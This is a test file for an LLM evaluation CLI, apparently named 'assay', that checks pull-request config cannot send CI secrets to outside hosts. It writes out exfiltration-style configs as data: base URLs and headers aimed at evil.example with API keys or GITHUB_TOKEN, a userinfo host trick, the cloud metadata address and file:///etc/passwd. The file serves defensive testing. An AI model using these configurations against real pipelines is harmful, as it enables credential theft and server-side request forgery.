import { describe, expect } from 'vitest';
import { CANARY, expectNoSecret } from '../support/canary.js';
import type { Content } from '../support/project.js';
import { casesFile, says } from '../cli/echo.js';
import { test } from '../cli/test.js';

const LIBRARY = { 'evals/e.prompt.md': '{{text}}', 'evals/e.cases.yaml': casesFile(['c01']) };

/** Every variable that a CI job may hold a right or a key in. */
const ENV = Object.fromEntries(
  'OPENAI_API_KEY ANTHROPIC_API_KEY GITHUB_TOKEN CI_JOB_TOKEN NPM_TOKEN AWS_SECRET_ACCESS_KEY OPENAI_CUSTOM_HEADERS APP_KEY'
    .split(' ')
    .map((name) => [name, name === 'OPENAI_CUSTOM_HEADERS' ? `x-gateway: ${CANARY}` : CANARY]),
);

const config = (provider: string, more: string[] = []) => [
  `providers: { p: { ${provider} } }`,
  'models: [p:m]',
  ...more,
];

/** What a pull request may write into a config to have a key sent away; `<url>` is a server of its own. */
const WAYS: [string, string[], RegExp][] = [
  [
    'a base URL',
    config('type: openai, baseURL: "https://evil.example/v1", apiKeyEnv: OPENAI_API_KEY'),
    /evil\.example, which is not allowed/,
  ],
  [
    'a URL of an application',
    config('type: http, url: "https://evil.example/", headersEnv: { authorization: OPENAI_API_KEY }'),
    /evil\.example, which is not allowed/,
  ],
  [
    'a base URL that looks like loopback',
    config('type: openai, baseURL: "http://127.0.0.1.evil.example/v1"'),
    /is not allowed/,
  ],
  [
    'a user name that looks like a host',
    config('type: openai, baseURL: "http://api.openai.com@evil.example/v1"'),
    /user name or password/,
  ],
  [
    'an address of cloud metadata',
    config('type: http, url: "http://169.254.169.254/latest/"'),
    /169\.254\.169\.254, which is not allowed/,
  ],
  ['another scheme', config('type: http, url: "file:///etc/passwd"'), /no http or https address/],
  [
    'a judge elsewhere',
    [
      'providers: { p: { type: anthropic, baseURL: "https://evil.example" } }',
      'models: [mock:echo]',
      'judge: { model: "p:claude-2025-01-01" }',
    ],
    /evil\.example, which is not allowed/,
  ],
  [
    'the token of GitHub, to this machine',
    config('type: openai, baseURL: "<url>/v1", apiKeyEnv: GITHUB_TOKEN'),
    /value of GITHUB_TOKEN, which is no key of a model/,
  ],
  ["the token of GitHub, to the SDK's host", config('type: openai, apiKeyEnv: github_token'), /value of github_token/],
  [
    'the token of a CI job, as a header',
    config('type: http, url: "<url>", headersEnv: { x: CI_JOB_TOKEN }'),
    /value of CI_JOB_TOKEN/,
  ],
  [
    'keys of a cloud and a registry',
    config('type: http, url: "<url>", headersEnv: { x: AWS_SECRET_ACCESS_KEY, y: NPM_TOKEN }'),
    /AWS_SECRET_ACCESS_KEY[^]*NPM_TOKEN/,
  ],
  ['a header with a value', config('type: http, url: "<url>", headers: { x: "{{env.OPENAI_API_KEY}}" }'), /"headers"/],
  [
    'a permission',
    config('type: http, url: "https://evil.example/"', ['allowHosts: [evil.example]', 'allowKeys: [GITHUB_TOKEN]']),
    /"allowHosts"[^]*"allowKeys"/,
  ],
];

describe.concurrent('no key goes elsewhere', () => {
  test.for(WAYS)('by %s', async ([, lines, told], { project, startServer }) => {
    const server = await startServer([says('say c01')]);
    const files: Record<string, Content> = {
      ...LIBRARY,
      'assay.config.yaml': lines.map((line) => line.replaceAll('<url>', server.url)),
    };
    const made = project(files);
    const outcome = await made.assay(['eval', '--mode', 'live'], { env: ENV });
    expect(outcome.stderr).toMatch(told);
    expect(outcome.code).toBe(2);
    expect(server.requests).toEqual([]);
    expectNoSecret(made, outcome);
  });

  test('but that which is named on the command line', async ({ project, startServer }) => {
    const server = await startServer([says('say c01')]);
    const made = project({
      ...LIBRARY,
      'assay.config.yaml': config(`type: openai, baseURL: "${server.url}/v1", apiKeyEnv: GITHUB_TOKEN`),
    });
    expect((await made.assay(['eval', '--mode', 'live', '--allow-key', 'GITHUB_TOKEN'], { env: ENV })).code).toBe(0);
    expect(
      (await made.assay(['eval', '--mode', 'live'], { env: { ...ENV, ASSAY_ALLOW_KEY: 'X, GITHUB_TOKEN' } })).code,
    ).toBe(0);
    expect(server.requests.map(({ headers }) => headers.authorization)).toEqual(Array(2).fill(`Bearer ${CANARY}`));
  });

  test('by a file of variables that allows things', async ({ project }) => {
    const made = project({
      ...LIBRARY,
      'assay.config.yaml': config('type: openai, baseURL: "https://evil.example/v1", apiKeyEnv: OPENAI_API_KEY'),
      'ci.env': ['ASSAY_ALLOW_HOST=evil.example', 'ASSAY_ALLOW_CODE=1'],
    });
    const { code, stderr } = await made.assay(['eval', '--mode', 'live', '--env-file', 'ci.env'], { env: ENV });
    expect(stderr).toMatch(/sets ASSAY_ALLOW_CODE, and no file can[^]*sets ASSAY_ALLOW_HOST/);
    expect(code).toBe(2);
  });
});
